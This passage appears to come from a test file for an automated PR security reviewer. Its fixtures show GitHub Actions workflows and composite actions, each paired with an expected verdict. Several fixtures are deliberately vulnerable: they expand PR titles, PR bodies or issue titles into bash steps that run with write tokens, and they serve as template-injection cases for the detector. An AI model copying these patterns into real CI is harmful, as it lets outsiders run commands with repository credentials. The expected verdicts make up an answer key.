          path: '.github/workflows/format.yml',
          base: lines('name: Format', 'on:', '  pull_request_target:', 'permissions:', '  contents: read', 'jobs:', '  format:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: npx prettier --check .'),
          head: lines(
            'name: Format',
            'on:',
            '  pull_request_target:',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  format:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - uses: ./.github/actions/format',
            '        with:',
            '          branch: ${{ github.head_ref }}',
            '          title: ${{ github.event.pull_request.title }}',
          ),
        },
        {
          path: '.github/actions/format/action.yml',
          head: lines(
            'name: Format check',
            'description: Checks formatting of the pull request branch',
            'inputs:',
            '  branch:',
            '    required: true',
            '  title:',
            '    required: true',
            'runs:',
            '  using: composite',
            '  steps:',
            '    - name: Check formatting',
            '      shell: bash',
            '      run: |',
            '        echo "Formatting check for: ${{ inputs.title }}"',
            '        git fetch origin ${{ inputs.branch }}',
            '        npx prettier --check .',
          ),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-composite-action-number-input',
    description:
      'The benign twin: a maintainer moves a pull_request job\'s step into a local composite action that takes the PR number (and a maintainer-chosen Node version) as inputs and expands them into its script. Numbers are not text an outsider writes: no injection beyond the low note on ${{ inputs.* }}.',
    fixture: ciPr(1999, {
      title: 'ci: share the changed-files step as a local action',
      files: [
        {
          path: '.github/workflows/changed.yml',
          head: lines(
            'name: Changed files',
            'on:',
            '  pull_request:',
            'permissions:',
            '  contents: read',
            '  pull-requests: read',
            'jobs:',
            '  list:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - uses: ./.github/actions/changed-files',
            '        with:',
            '          pr-number: ${{ github.event.pull_request.number }}',
            '          node-version: ${{ vars.NODE_VERSION }}',
            '          token: ${{ github.token }}',
          ),
        },
        {
          path: '.github/actions/changed-files/action.yml',
          head: lines(
            'name: Changed files',
            'description: Lists the files a pull request changes',
            'inputs:',
            '  pr-number:',
            '    required: true',
            '  node-version:',
            "    default: '22'",
            '  token:',
            '    required: true',
            'runs:',
            '  using: composite',
            '  steps:',
            '    - name: List',
            '      shell: bash',
            '      env:',
            '        GH_TOKEN: ${{ inputs.token }}',
            '      run: |',
            '        gh pr diff ${{ inputs.pr-number }} --name-only > changed.txt',
            '        echo "node ${{ inputs.node-version }}"',
          ),
        },
      ],
    }),
    // The low note on ${{ inputs.* }} stays (a caller elsewhere may pass text); an injection through this caller would be high.
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  },
  {
    id: 'ci-composite-action-callee-only-injection',
    description:
      'The other half of a composite-action injection: the base already has an issues workflow that passes ${{ github.event.issue.title }} to a local labelling action, which reads it safely through env:. A first-time contributor\'s PR "simplifies" only the action to expand ${{ inputs.title }} in its script; the caller, untouched, is read from the base. Any issue title then runs as shell with the triage job\'s write token.',
    fixture: ciPr(2000, {
      title: 'ci: simplify the label action',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/actions/label/action.yml',
          base: lines(
            'name: Label',
            'inputs:',
            '  title:',
            '    required: true',
            'runs:',
            '  using: composite',
            '  steps:',
            '    - shell: bash',
            '      env:',
            '        TITLE: ${{ inputs.title }}',
            '      run: |',
            '        case "$TITLE" in',
            '          *crash*) gh issue edit "$NUMBER" --add-label bug ;;',
            '        esac',
          ),
          head: lines(
            'name: Label',
            'inputs:',
            '  title:',
            '    required: true',
            'runs:',
            '  using: composite',
            '  steps:',
            '    - shell: bash',
            '      run: |',
            '        if echo "${{ inputs.title }}" | grep -qi crash; then gh issue edit "$NUMBER" --add-label bug; fi',
          ),
        },
      ],
      baseFiles: {
        '.github/workflows/triage.yml': lines(
          'name: Triage',
          'on:',
          '  issues:',
          '    types: [opened, edited]',
          'permissions:',
          '  issues: write',
          'jobs:',
          '  label:',
          '    runs-on: ubuntu-latest',
          '    env:',
          '      NUMBER: ${{ github.event.issue.number }}',
          '      GH_TOKEN: ${{ github.token }}',
          '    steps:',
          `      - uses: ${CHECKOUT}`,
          '      - uses: ./.github/actions/label',
          '        with:',
          '          title: ${{ github.event.issue.title }}',
        ),
      },
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-caller-feeds-existing-composite-action',
    description:
      'The third shape of a composite-action injection: the base has a local release-notes action that expands ${{ inputs.summary }} in its script, called by a pull_request_target workflow with a fixed text. A maintainer\'s PR changes only the caller, to pass ${{ github.event.pull_request.body }}; the action, untouched, is read from the base. Every PR description then runs as shell with the workflow\'s write token.',
    fixture: ciPr(2001, {
      title: 'ci: use the PR description in release notes preview',
      files: [
        {
          path: '.github/workflows/notes-preview.yml',
          base: lines(
            'name: Release notes preview',
            'on:',
            '  pull_request_target:',
            '    types: [opened, edited]',
            'permissions:',
            '  pull-requests: write',
            'jobs:',
            '  preview:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - uses: ./.github/actions/notes',
            '        with:',
            "          summary: 'See the pull request'",
          ),
          head: lines(
            'name: Release notes preview',
            'on:',
            '  pull_request_target:',
            '    types: [opened, edited]',
            'permissions:',
            '  pull-requests: write',
            'jobs:',
            '  preview:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - uses: ./.github/actions/notes',
            '        with:',
            '          summary: ${{ github.event.pull_request.body }}',
          ),
        },
      ],
      baseFiles: {
        '.github/actions/notes/action.yml': lines(
          'name: Release notes',
          'inputs:',
          '  summary:',
          '    required: true',
          'runs:',
          '  using: composite',
          '  steps:',
          '    - shell: bash',
          '      run: |',
          '        cat > notes.md <<EOF',
          '        ${{ inputs.summary }}',
          '        EOF',
          '        gh pr comment --body-file notes.md',
        ),
      },
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection'] },
  },
];

/** The project's test workflow, with `extra` step lines after its tests. */
function testWorkflow(extra: string[]): string {
  return lines(
    'name: ci',
    'on:',
    '  push:',
    '    branches: [main]',
    '  pull_request:',
    'permissions:',
    '  contents: read',
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    '      - uses: actions/setup-node@v4',
    '        with:',
    '          node-version: 22',
    '      - run: npm ci',
    '      - run: npm test -- --coverage',
    ...extra,
  );
}

/** A scheduled workflow that runs the whole suite every night and then `action`. */
function nightlyWorkflow(action: string): string {
  return lines(
    'name: nightly',
    'on:',
    '  schedule:',
    "    - cron: '0 3 * * *'",
    'permissions:',
    '  contents: read',
    'jobs:',
    '  nightly:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - uses: actions/checkout@v4',
    '      - run: npm ci',
    '      - run: npm run test:all -- --coverage',
    `      - uses: ${action}`,
  );
}
